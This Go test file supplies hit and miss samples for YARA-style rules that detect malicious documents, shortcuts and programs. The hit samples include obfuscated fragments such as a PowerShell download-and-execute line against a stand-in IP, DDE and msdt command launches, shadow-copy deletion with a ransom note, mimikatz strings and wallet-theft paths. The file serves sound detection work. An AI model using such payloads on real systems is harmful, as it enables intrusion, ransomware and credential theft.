package yara_test

import (
	"bytes"
	"strings"
)

func documentSamples() []ruleSample {
	rels := func(body string) []byte {
		return cut(`<Relationships xmlns="http://schemas.openxml~formats.org/package/2006/relationships">` + body + `</Relationships>`)
	}
	native := wide("\x01Ole10Native")
	return []ruleSample{
		{
			rule: "Office_Macro_Runs_Program",
			hit:  cut("Attribute VB_N~ame = \"ThisDocument\"\nSub Auto~Open()\nSet s = CreateObject(\"WScr~ipt.Shell\")\ns.Run \"powersh~ell -c x\"\nEnd Sub"),
			miss: cut("Attribute VB_N~ame = \"ThisDocument\"\nSub Auto~Open()\nMsgBox \"Welcome\"\nEnd Sub"),
		},
		{
			rule: "Office_Equation_Overflow",
			hit:  ole(unhex("1c0000000200 9ec4a9000000 00000000 c8a75c00 c4ee5b00 00000000 030101030a0a01085a5a"), bytes.Repeat([]byte("A"), 40), unhex("120c4300")),
			miss: ole(unhex("1c0000000200 9ec4a9000000 00000000 c8a75c00 c4ee5b00 00000000 030101030a0a01128341"), make([]byte, 40)),
		},
		{
			rule: "Office_Equation_Overflow",
			hit:  cut(`{\rt~f1{\object{\*\objdata 1c00000002~009ec4a9000000 00000000c8a75c00c4ee5b0000000000 0301010~30a0a01085a5a` + strings.Repeat("41", 40) + `120c43~00}}}`),
			miss: cut(`{\rt~f1{\object{\*\objdata 1c00000002~009ec4a9000000 00000000c8a75c00c4ee5b0000000000 0301010~30a0a0112834100}}}`),
		},
		{
			rule: "RTF_Equation_Updates_Itself",
			hit:  cut(`{\rt~f1{\object\objocx\objup~date{\*\objcl~ass Equation.3}{\*\objdata 0105}}}`),
			miss: cut(`{\rt~f1{\object\objemb{\*\objcl~ass Equation.3}{\*\objdata 0105}}}`),
		},
		{
			rule: "RTF_Remote_Object",
			hit:  cut(`{\rt~f1{\object\objaut~link\objup~date{\*\objdata e0c9ea79f9~bace118c8200aa004ba90b 68007400~740070003a002f00}}}`),
			miss: cut(`{\rt~f1{\object\objemb{\*\objdata d0cf11e0a1b11ae1}}}`),
		},
		{
			rule: "RTF_Bent_Header",
			hit:  cut(`{\rt~vpn{\o~bject\objemb{\*\objd~ata 01}}}`),
			miss: cut(`{\rt~f1\ansi{\o~bject\objemb{\*\objd~ata 01}}}`),
		},
		{
			rule: "OOXML_Remote_Object",
			hit:  rels(`<Relationship Type="http://x/oleObj~ect" Target="mhtml:ht~tp://203.0.113.7/a.html!x-usc:http://203.0.113.7/a.html" TargetMode="Exter~nal"/>`),
			miss: rels(`<Relationship Type="http://x/hyperlink" Target="https://www.example.com/" TargetMode="Exter~nal"/>`),
		},
		{
			rule: "OOXML_Remote_Template",
			hit:  rels(`<Relationship Type="http://x/attachedTem~plate" Target="http://203.0.113.7/t.do~tm" TargetMode="Exter~nal"/>`),
			miss: rels(`<Relationship Type="http://x/attachedTem~plate" Target="file:///C:/Templates/letter.dotx" TargetMode="Exter~nal"/>`),
		},
		{
			rule: "Office_DDE_Command",
			hit:  cut(`<w:instrText>DD~EAUTO c:\\windows\\system32\\cm~d.exe "/k calc"</w:instrText>`),
			miss: cut(`<w:instrText>DD~EAUTO Excel.Sheet.12 "C:\\data\\book.xlsx" "Sheet1!R1C1"</w:instrText> a@cmd|x`),
		},
		{
			rule: "Excel_Macro_Sheet_Runs_Program",
			hit:  cut(`<xm:macro~sheet><sheetData><row><c><f>EX~EC("calc")</f></c></row></sheetData></xm:macro~sheet>`),
			miss: cut(`<worksheet><sheetData><row><c><f>SUM(A1:A9)</f></c></row></sheetData></worksheet>`),
		},
		{
			rule: "Office_Msdt_Link",
			hit:  cut(`location.href = "ms-ms~dt:/id PCWDiag~nostic /skip force /param \"IT_RebrowseFor~File=? IT_LaunchMet~hod=ContextMenu IT_BrowseFor~File=$(calc)/../mpsigs~tub.exe\"";`),
			miss: cut(`The scheme ms-ms~dt: starts the support tool.`),
		},
		{
			rule: "Office_Embedded_Program",
			hit:  ole(native, []byte("\x40\x00\x00\x00\x02\x00invoice"), cut(".e~xe\x00C:\\Users\\x\\invoice.e~xe\x00")),
			miss: ole(native, []byte("\x40\x00\x00\x00\x02\x00invoice.pdf\x00C:\\Users\\x\\invoice.pdf\x00")),
		},
		{
			rule: "PDF_Launches_Command",
			hit:  pdf(`1 0 obj << /S /Lau~nch /Win << /F (cm~d.exe) /P (/c calc) >> >> endobj`),
			miss: pdf(`1 0 obj << /S /Lau~nch /F (chapter2.pdf) >> endobj`),
		},
		{
			rule: "PDF_Exports_And_Opens_Attachment",
			hit:  pdf(`1 0 obj << /S /JavaScript /JS (this.exportData~Object({ cName: "a.doc", nLau~nch: 2 });) >> endobj`),
			miss: pdf(`1 0 obj << /S /JavaScript /JS (this.exportData~Object({ cName: "a.csv" });) >> endobj`),
		},
		{
			rule: "PDF_Script_Exploits_Reader",
			hit:  pdf(`1 0 obj << /Open~Action << /S /JavaScr~ipt /JS (var s = unesc~ape("%u9090%u9090"); Collab.collect~EmailInfo({msg: s});) >> >> endobj`),
			miss: pdf(`1 0 obj << /Open~Action << /S /JavaScr~ipt /JS (this.zoomType = zoomtype.fitW;) >> >> endobj`),
		},
		{
			rule: "PDF_Script_On_Open",
			hit:  pdf(`1 0 obj << /Open~Action << /S /JavaScr~ipt /JS (this.print();) >> >> endobj`),
			miss: pdf(`1 0 obj << /Open~Action [3 0 R /FitH null] >> endobj`),
		},
		{
			rule: "PDF_Spelled_Names",
			hit:  pdf(`1 0 obj << /S /Java#53cri~pt /JS (x) >> endobj`),
			miss: pdf(`1 0 obj << /S /JavaScr~ipt /Name /Jane#20Doe >> endobj`),
		},
		{
			rule: "PDF_Attached_Program",
			hit:  pdf(`1 0 obj << /Type /Filespec /F (a.e~xe) /EF << /F 2 0 R >> >> endobj 2 0 obj << /Type /Embedded~File >> endobj 3 0 obj << /S /GoT~oE >> endobj`),
			miss: pdf(`1 0 obj << /Type /Filespec /F (data.xml) /EF << /F 2 0 R >> >> endobj 2 0 obj << /Type /Embedded~File >> endobj`),
		},
	}
}

func shortcutSamples() []ruleSample {
	iso := func(names string) []byte {
		return join(make([]byte, 0x8001), []byte("CD001\x01"), make([]byte, 64), cut(names))
	}
	one := join(unhex("e4525c7b8cd8a74daeb15378d02996d3"), make([]byte, 128), unhex("e716e3bd65261145a4c48d4d0b7a9eac"), make([]byte, 20))
	return []ruleSample{
		{
			rule: "LNK_Runs_Script",
			hit:  lnk(wide(string(cut(`..\powersh~ell.exe -w hid~den -c "iw~r http://203.0.113.7/a | i~ex"`)))),
			miss: lnk(wide(`C:\Program Files\Example\example.exe --open`)),
		},
		{
			rule: "LNK_Carries_Program",
			hit:  lnk(wide(`readme`), pe()),
			miss: lnk(wide(`C:\Windows\System32\notepad.exe readme.txt`)),
		},
		{
			rule: "HTA_Dropper",
			hit:  cut(`<hta:appl~ication showIn~Taskbar="no"><script>new ActiveXObject("WScript.Sh~ell").Ru~n("powersh~ell -c x", 0); window.clo~se();</script>`),
			miss: cut(`<hta:appl~ication id="app" applicationname="Inventory"><script>document.title = "Inventory";</script>`),
		},
		{
			rule: "Scriptlet_Runs_Program",
			hit:  cut(`<xsl:stylesheet><msx~sl:script language="JScript">new ActiveX~Object("WScript.Sh~ell").Run("calc");</msxsl:script></xsl:stylesheet>`),
			miss: cut(`<xsl:stylesheet><msx~sl:script language="C#">public string Up(string s) { return s.ToUpper(); }</msxsl:script></xsl:stylesheet>`),
		},
		{
			rule: "URL_File_Starts_Program",
			hit:  cut("[Internet~Shortcut]\r\nURL=fi~le://203.0.113.7/share/invoice.vb~s\r\n"),
			miss: cut("[Internet~Shortcut]\r\nURL=https://www.example.com/\r\nIconIndex=0\r\n"),
		},
		{
			rule: "Explorer_File_Leaks_Or_Fetches",
			hit:  cut("[She~ll]\r\nCommand=2\r\nIconFi~le=\\\\203.0.113.7\\x\\a.ico\r\n"),
			miss: cut("[She~ll]\r\nCommand=2\r\nIconFi~le=explorer.exe,3\r\n"),
		},
		{
			rule: "Settings_File_Runs_Program",
			hit:  cut(`<Searchable~Content><ApplicationInformation><Deep~Link>%windir%\system32\cm~d.exe /c calc</Deep~Link></ApplicationInformation></SearchableContent>`),
			miss: cut(`<Searchable~Content><ApplicationInformation><Deep~Link>ms-settings:display</Deep~Link></ApplicationInformation></SearchableContent>`),
		},
		{
			rule: "OneNote_Carries_Program",
			hit:  join(one, cut(`@ec~ho off`), []byte("\r\nstart x")),
			miss: join(one, []byte("\x89PNG\r\n\x1a\n a picture")),
		},
		{
			rule: "ISO_Shortcut_And_Program",
			hit:  iso("INVOICE.LN~K;1 \x00 HELPER.DL~L;1"),
			miss: iso("SETUP.EX~E;1 \x00 README.TXT;1"),
		},
		{
			rule: "Name_With_Two_Endings",
			file: string(cut("Invoice.pdf     .ex~e")),
			hit:  []byte("any"),
			miss: []byte("any"),
		},
		{
			rule: "Name_Turned_Around",
			file: string(cut("Annual\u202excod.sc~r")),
			hit:  []byte("any"),
			miss: []byte("any"),
		},
	}
}

func programSamples() []ruleSample {
	return []ruleSample{
		{
			rule: "Shellcode_Metasploit",
			hit:  join([]byte("buf = "), unhex("fc 48 83 e4 f0 e8 c0 00 00 00 41 51 41 50 52 51 56 48 31 d2 65 48 8b 52 60")),
			miss: unhex("fc 48 83 e4 f0 e8 12 34 00 00 41 51 41 50 52 51 56 48 31 d2"),
		},
		{
			rule: "CobaltStrike_Beacon",
			hit:  join(make([]byte, 64), unhex("2e2f2e2f2e2c 2e26 2e2c2e2f2e2c 2f95 2e2d2e2c2e2a")),
			miss: join(make([]byte, 64), unhex("2e2f2e2f2e2c 2e26 2e2c2e2f2e2e 2f95 2e2d2e2c2e2a")),
		},
		{
			rule: "PostExploitation_Tool",
			hit:  pe(cut("mimi~katz"), wide(string(cut("sekur~lsa"))), wide(string(cut("logonpass~words")))),
			miss: cut("How to detect mimi~katz: look for sekur~lsa::logonpass~words and lsadu~mp:: in command lines."),
		},
		{
			rule: "ELF_Miner",
			hit:  elf(cut("stratum+t~cp:// donate-le~vel random~x crypton~ight")),
			miss: elf(cut("random~x is a proof of work")),
		},
		{
			rule: "ELF_IoT_Bot",
			hit:  elf(cut("/dev/misc/watch~dog TSource Engine Qu~ery listening tu~n0")),
			miss: elf(cut("/dev/misc/watch~dog /bin/busy~box applet")),
		},
		{
			rule: "Program_Deletes_Shadow_Copies",
			hit:  pe(cut("vssadmin delete sha~dows /all /quiet\x00Your files have been encry~pted. Pay in bitc~oin.\x00README.txt")),
			miss: pe(cut("vssadmin delete sha~dows /all\x00Backup is done\x00")),
		},
		{
			rule: "Program_Steals_Secrets",
			hit:  pe(cut(`\Exo~dus\ \Electr~um\wallets FileZil~la\recentservers.xml \Telegram Desk~top\tdata`)),
			miss: pe(cut(`FileZil~la\recentservers.xml`)),
		},
		{
			rule: "Image_Carries_Program",
			hit:  gif(make([]byte, 32), pe()),
			miss: gif(dosText()),
		},
		{
			rule: "Program_Reversed_Or_Bent",
			hit:  cut("var x = '4d5a90000300000~004000000ffff0000b8000000'; " + strings.Repeat(" ", 8) + "[Reflection.Ass~embly]::Load(x)"),
			miss: cut("magic: 4d5a9000 is how programs for Windows begin; see Assembly"),
		},
	}
}
